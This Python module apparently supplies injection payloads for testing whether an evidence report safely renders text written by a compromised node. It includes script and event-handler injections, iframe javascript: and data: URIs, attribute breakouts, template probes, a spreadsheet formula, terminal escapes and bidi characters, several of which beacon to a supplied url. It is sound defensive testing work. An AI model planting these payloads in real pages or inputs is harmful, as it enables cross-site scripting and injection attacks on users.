"""What a node, or whoever has got hold of one, may write to harm the reader of the evidence."""

from __future__ import annotations

from typing import Any

STRUCK = "data-struck"
"""The attribute of the page's root that a script of a payload sets."""
STRIKE = f"document.documentElement.setAttribute('{STRUCK}','x')"
ENDS = ("</script>", "</pre>", "</style>", "</title>", "</textarea>", "</template>", "-->", "]]>")


def payloads(url: str) -> dict[str, str]:
    """Name -> text that asks `url/NAME` where it is taken for markup, or strikes."""

    def ask(name: str) -> str:
        return f"{STRIKE};new Image().src='{url}/{name}'"

    return {
        "script": f"<script>{ask('script')}</script>",
        "loaded": f"<script src='{url}/loaded'></script>",
        "onerror": f'<img src=x onerror="{ask("onerror")}">',
        "image": f"<img src={url}/image>",
        "svg": f'<svg onload="{ask("svg")}"><script>{ask("svg")}</script></svg>',
        "frame": f"<iframe src={url}/frame></iframe>",
        "javascript": f"<iframe src=\"javascript:parent.{STRIKE};fetch('{url}/javascript')\">"
        f'</iframe><a href="javascript:{STRIKE}">here</a>',
        "data": f"<iframe src=\"data:text/html,<script>fetch('{url}/data')</script>\"></iframe>",
        "style": f"<link rel=stylesheet href={url}/style><style>@import '{url}/style';</style>",
        "object": f"<object data={url}/object></object><embed src={url}/object>",
        "details": f'<details open ontoggle="{ask("details")}">x</details>',
        "focus": f'<input autofocus onfocus="{ask("focus")}">',
        "attribute": f'" autofocus onfocus="{ask("attribute")}" tabindex=1 x=\'',
        "template": "{{7*7}}{% for x in [1] %}49{% endfor %}${7*7}#{7*7}<%= 7*7 %>",
        "formula": f'=HYPERLINK("{url}/formula")\n@SUM(1)\n+1\n-1',
        "terminal": f"\x1b[2J\x1b]8;;{url}/terminal\x07here\x1b]8;;\x07\x9b31m\x00\x7f",
        "bidi": "\u202eevil\u202c\u2066x\u2069\u200b\ufeff",
        "long": "long " * 1_000,
    }


STRIKING = frozenset(
    {
        *("script", "loaded", "onerror", "image", "svg", "frame", "javascript", "data"),
        *("style", "object", "details", "focus"),
    }
)
"""Those that a browser obeys wherever they are taken for markup."""


def together(url: str) -> str:
    """All of them, each behind whatever could end what it stands in."""
    return "".join(f"{''.join(ENDS)}{text}\n" for text in payloads(url).values())


_KEPT = frozenset(
    {
        *("event", "time", "started", "run", "outcome", "severity", "state", "key", "row", "of"),
        *("mode", "environment", "when", "result", "kind", "since", "until"),
    }
)


def everywhere(value: Any, text: str, name: str = "") -> Any:
    """An event whose every text is followed by a hostile one, but for those that give it form."""
    if isinstance(value, str) and name not in _KEPT:
        return value + text
    if isinstance(value, dict):
        return {key: everywhere(item, text, key) for key, item in value.items()}
    if isinstance(value, list | tuple):
        return [everywhere(item, text, name) for item in value]
    return value
